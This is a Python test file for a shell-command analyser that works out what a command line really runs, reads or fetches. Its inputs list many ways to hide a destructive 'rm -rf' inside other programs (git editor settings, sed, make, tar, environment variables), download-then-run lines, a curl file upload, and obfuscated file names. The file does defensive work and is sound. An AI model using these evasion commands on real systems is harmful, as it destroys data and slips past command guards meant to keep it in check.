"""What programs run, read and fetch that have ways of their own to be told so."""

import pytest

from bylaw.language.views import VIEWS

argv = VIEWS["argv"]


@pytest.mark.parametrize(
    "line",
    [
        "sed 's/.*/rm -rf \\/x/e' f",
        "make -f- <<< 'all: ; rm -rf /x'",
        "printf 'all:\\n\\trm -rf /x\\n' > Makefile; make",
        "make --eval='$(shell rm -rf /x)'",
        "echo '* * * * * rm -rf /x' | crontab -",
        "printf '!rm -rf /x\\n' | ed",
        "vim -c ':silent !rm -rf /x' f",
        "vim '+!rm -rf /x' f",
        "gdb -batch -ex 'shell rm -rf /x'",
        "sqlite3 :memory: '.shell rm -rf /x'",
        "psql -c '\\! rm -rf /x'",
        "zip a.zip f -T -TT 'rm -rf /x'",
        "socat - EXEC:'rm -rf /x'",
        "tar -cf a.tar f --to-com='rm -rf /x'",
        "split --filter='rm -rf /x' f",
        "tclsh <<< 'exec rm -rf /x'",
        "compgen -C 'rm -rf /x'",
        "git rebase -x 'rm -rf /x' HEAD~1",
        "git bisect run rm -rf /x",
        "git submodule foreach --recursive 'rm -rf /x'",
        "git -c core.editor='rm -rf /x' commit",
        "git config core.pager 'rm -rf /x'",
        "GIT_EDITOR='rm -rf /x' git commit",
        "env PAGER='rm -rf /x' man ls",
        "export LESSOPEN='|rm -rf /x'",
        "TAR_OPTIONS='--checkpoint-action=exec=\"rm -rf /x\"' tar -cf a.tar f",
        "echo 'rm -rf /x' > s; BASH_ENV=s bash -c true",
        "echo 'rm -rf /x' > s; bash --rcfile s",
        "docker run --rm -v .:/w image rm -rf /x",
        "kubectl exec pod -- rm -rf /x",
        "poetry run rm -rf /x",
        "npx -y rm -rf /x",
    ],
)
def test_what_another_program_runs_is_there(line: str) -> None:
    assert "rm -f -r /x" in argv(line)


@pytest.mark.parametrize(
    "line", ["fc -s ls=rm ls", "run-parts d", "sed e f", "BASH_ENV=<(a) bash -c true", "make -f - < f"]
)
def test_what_nobody_can_tell_is_said(line: str) -> None:
    assert {"<unknown>", "sh <stdin>", "make <stdin>"} & set(argv(line))


@pytest.mark.parametrize(
    "line",
    [
        "curl -o s https://a.example/b; sh s",
        "curl -LO https://a.example/s?c; . ./s",
        "wget -q https://a.example/s && bash s",
        "wget -O s https://a.example && chmod +x s && ./s",
        "scp a.example:s . && sh s",
    ],
)
def test_what_was_fetched_is_not_known(line: str) -> None:
    assert "sh <stdin>" in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        "cat f",
        "cat a/../f",
        "sort -n x f",
        "cp f g",
        "cp -t d f",
        "dd if=f of=g",
        "curl -d @f https://a.example",
        "curl -F a=@f https://a.example",
        "git show HEAD:f",
        "git log -p f",
        "grep a f",
        "sed -n p f",
        "sed 'r f' g",
        "awk 'BEGIN { getline a < \"f\" }'",
        "python3 -c 'open(\"f\")'",
        "perl -e 'open A, \"<f\"'",
        "find . -name f -exec cat {} +",
        "xargs -a f echo",
        "sudo cat f",
        "docker run --env-file=f image",
        "cat $(echo Zgo= | base64 -d)",
        "cat $(tr a-z n-za-m <<< s)",
        "cat $(xxd -r -p <<< 66)",
        "cat $(rev <<< f)",
    ],
)
def test_files_that_may_be_read_are_there(line: str) -> None:
    assert "< f" in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        "ls f",
        "rm f",
        "sudo rm f",
        "touch f",
        "test -f f",
        "echo f",
        "cp g f",
        "dd if=g of=f",
        "git add f",
        "git commit -m 'a f b'",
        "git log f",
        "grep f g",
        "sed -e f g",
        "find . -name f",
        "tar -czf a.tgz --exclude=f .",
        "curl -o f https://a.example",
        "ssh -i f a.example",
    ],
)
def test_files_that_are_only_named_are_not(line: str) -> None:
    assert "< f" not in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        'eval "$(dircolors -b)"',
        'eval "$(ssh-agent -s)"',
        'eval "$(/opt/brew/bin/brew shellenv)"',
        'eval "$(pyenv init -)"',
        "source <(kubectl completion bash)",
    ],
)
def test_what_shells_are_set_up_with_is_taken_for_nothing(line: str) -> None:
    assert not {"<unknown>", "sh <stdin>"} & set(argv(line))


@pytest.mark.parametrize(
    "line",
    [
        'eval "$(./dircolors -b)"',
        'dircolors() { a; }; eval "$(dircolors)"',
        'eval "$(brew list)"',
        "source <(a completion)",
    ],
)
def test_others_of_the_same_name_are_not(line: str) -> None:
    assert {"<unknown>", "sh <stdin>"} & set(argv(line))


def test_an_alias_of_git_is_the_command_that_it_stands_for() -> None:
    assert "git push -f" in argv("git config alias.p 'push --force'")
    assert "git push -f" in argv("git -c alias.p='push --force' p")
    assert "git push -f" in argv("/usr/lib/git-core/git-push --force")
